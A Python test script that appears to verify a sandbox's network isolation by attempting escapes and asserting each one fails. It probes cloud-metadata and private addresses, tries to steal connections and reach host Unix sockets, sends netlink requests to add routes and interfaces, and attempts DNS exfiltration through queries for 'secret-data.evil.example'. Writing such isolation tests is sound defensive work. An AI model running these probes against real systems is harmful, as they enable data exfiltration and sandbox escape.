"""The network: lo, and listeners of the egress process; no way to the host, its services or its abstract sockets."""

import os, socket, struct, time
from attack import *


def get(host):
    name = f"[{host}]" if ":" in host else host
    return f"GET / HTTP/1.1\r\nHost: {name.split('%')[0]}\r\n\r\n".encode()


def talk(address, data, family=None):
    """What comes back; b"" when the connection is refused, reset or closed."""
    family = family or (socket.AF_INET6 if ":" in address[0] else socket.AF_INET)
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(20)
        got = b""
        try:
            s.connect(address)
            s.sendall(data)
            while b"\r\n\r\n" not in got and (part := s.recv(65536)):
                got += part
        except (ConnectionError, BrokenPipeError):
            pass
        return got


def blocked(what, address):
    start = time.monotonic()
    got = talk(address, get(address[0]))
    check(f"HTTP to {what} is blocked", got.startswith(b"HTTP/1.1 520 "), got[:80])
    check(f"bytes to {what} go nowhere", talk(address, b"\0\1\2 hello\n") == b"")
    check(f"{what} at once", time.monotonic() - start < 15, time.monotonic() - start)


# private, link-local, metadata and other addresses that are no public ones
for host in ("10.0.0.1", "169.254.169.254", "192.168.0.1", "172.17.0.1", "100.64.0.1", "0.0.0.1", "203.0.113.7"):
    blocked(host, (host, 80))
for host in ("fe80::1%lo", "fd00:ec2::254", "64:ff9b::a00:1", "2002:a00:1::1", "::ffff:10.0.0.1"):
    try:
        got = talk((host, 80), get(host))
    except OSError:
        continue
    check(f"{host} is blocked", not got or got.startswith(b"HTTP/1.1 520 "), got[:80])
check("bytes to the internet go nowhere", talk(("1.1.1.1", 443), b"SSH-2.0-x\r\n") == b"")
check("bytes to the internet, IPv6", talk(("2606:4700::1111", 443), b"SSH-2.0-x\r\n") == b"")

# the host, by all of its addresses
for host, port in FACTS["listeners"]:
    got = talk((host, port), get(host))
    check(f"service of the host {host}:{port}", not got or got.startswith(b"HTTP/1.1 520 "), got[:80])
    check(f"bytes to the host {host}:{port}", talk((host, port), b"\0hello\n") == b"")

# the listeners themselves
for host in ("127.0.0.1", "10.200.0.1", "10.200.0.53", "::1", "fd00:200::1", "1.1.1.1"):
    check(f"the listener of {host}", talk((host, 1), get(host)) == b"")
for host in ("0.0.0.0", "127.0.0.1", "10.200.0.1"):
    with socket.socket() as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        refused(f"the listener's port at {host}", lambda: s.bind((host, 1)), errno.EADDRINUSE, errno.EACCES)
thief = socket.create_server(("0.0.0.0", 8080))
thief.settimeout(0.5)
check("connections cannot be stolen", talk(("93.184.216.34", 8080), b"\0hello\n") == b"")
try:
    thief.accept()
    check("a connection was stolen", False)
except TimeoutError:
    pass

# datagrams: names are answered, nothing else is
for address in (("8.8.8.8", 443), ("8.8.8.8", 123), ("1.1.1.1", 5353)):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as u:
        u.settimeout(5)
        u.connect(address)
        u.send(b"x")
        refused(f"datagram {address}", lambda: u.recv(100), errno.ECONNREFUSED)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
refused("broadcast", lambda: u.sendto(b"x", ("255.255.255.255", 9)), errno.ENETUNREACH, errno.EACCES)


def ask(server, name, kind, protocol=socket.SOCK_DGRAM):
    labels = b"".join(bytes([len(p)]) + p for p in name.encode().split(b"."))
    question = b"\x12\x34\1\0\0\1\0\0\0\0\0\0" + labels + b"\0" + struct.pack(">HH", kind, 1)
    with socket.socket(socket.AF_INET, protocol) as s:
        s.settimeout(10)
        s.connect((server, 53))
        s.sendall(question if protocol == socket.SOCK_DGRAM else struct.pack(">H", len(question)) + question)
        answer = s.recv(4096)
        return answer if protocol == socket.SOCK_DGRAM else answer[2:]


for protocol in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
    for server in ("10.200.0.53", "8.8.8.8"):
        answer = ask(server, "secret-data.evil.example", 1, protocol)
        check("a name stands for a synthetic address", answer[-4:-2] in (b"\xc6\x12", b"\xc6\x13"), answer)
    for kind in (16, 15, 33, 64, 65, 255):
        answer = ask("8.8.8.8", "data.evil.example", kind, protocol)
        check(f"record {kind} does not exist", answer[6:8] == b"\0\0", answer)
check("names resolve", socket.getaddrinfo("example.com", 80, socket.AF_INET)[0][4][0].startswith("198.18."))
refused("raw socket", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1), errno.EPERM)
refused("ping socket", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1), errno.EPERM, errno.EACCES)


def unix_connect(path):
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
        s.connect(path)


refused("abstract socket of the host", lambda: unix_connect("\0" + FACTS["abstract"]), errno.ECONNREFUSED)
refused("named socket of the host", lambda: unix_connect(FACTS["named"]), errno.ENOENT)
unix = read("/proc/net/unix").decode()
check("the host's sockets are not listed", FACTS["abstract"] not in unix)
check("only lo", [n for _, n in socket.if_nameindex()] == ["lo"], socket.if_nameindex())
routes = read("/proc/net/route").decode().splitlines()[1:]
check("no routes", routes == [], routes)


def netlink(kind, flags, payload):
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    with s:
        s.bind((0, 0))
        s.send(struct.pack("=IHHII", 16 + len(payload), kind, flags | 5, 1, 0) + payload)
        data = s.recv(65536)
        if struct.unpack_from("=H", data, 4)[0] == 2:
            code = -struct.unpack_from("=i", data, 16)[0]
            if code:
                raise OSError(code, "netlink")
        return True


ifinfo = struct.pack("=BxHiII", 0, 0, 1, 0, 1)
link = struct.pack("=HH", 8, 3) + b"eth\0"
refused("set lo down", lambda: netlink(16, 0, ifinfo), errno.EPERM)
kind = b"dummy\0\0\0"
info = struct.pack("=HH", 4 + 6 + 0, 1) + b"dummy\0\0\0"
refused(
    "new interface",
    lambda: netlink(16, 0x600, struct.pack("=BxHiII", 0, 0, 0, 0, 0) + struct.pack("=HH", 4 + len(info), 18) + info),
    errno.EPERM,
)
addr = struct.pack("=BBBBi", 2, 8, 0, 0, 1) + struct.pack("=HH4s", 8, 2, socket.inet_aton("127.9.9.9"))
refused("new address", lambda: netlink(20, 0x600, addr), errno.EPERM)
route = struct.pack("=BBBBBBBBI", 2, 0, 0, 0, 254, 4, 0, 1, 0) + struct.pack("=HHi", 8, 4, 1)
refused("new route", lambda: netlink(24, 0x600, route), errno.EPERM)
works("netlink question", lambda: netlink(18, 0x300, ifinfo))
refused("transparent socket", lambda: u.setsockopt(socket.SOL_IP, 19, 1), errno.EPERM)
refused("mark", lambda: u.setsockopt(socket.SOL_SOCKET, 36, 1), errno.EPERM)
refused("iptables", lambda: u.getsockopt(socket.SOL_IP, 64, 84), errno.EPERM, errno.ENOPROTOOPT)
listener = socket.create_server(("127.0.0.1", 0))
works("own service", lambda: socket.create_connection(listener.getsockname(), 5))
done()
